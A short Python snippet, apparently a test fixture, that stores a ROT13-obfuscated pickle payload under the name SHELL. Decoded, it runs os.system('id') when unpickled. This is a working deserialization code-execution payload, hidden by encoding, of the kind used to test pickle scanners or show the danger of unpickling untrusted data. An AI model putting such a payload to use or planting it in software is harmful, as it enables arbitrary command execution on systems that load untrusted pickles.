import codecs

SHELL = codecs.encode("pbf\nflfgrz\n(F'vq'\ngE.", 'rot13').encode()  # P906 H/H: os.system
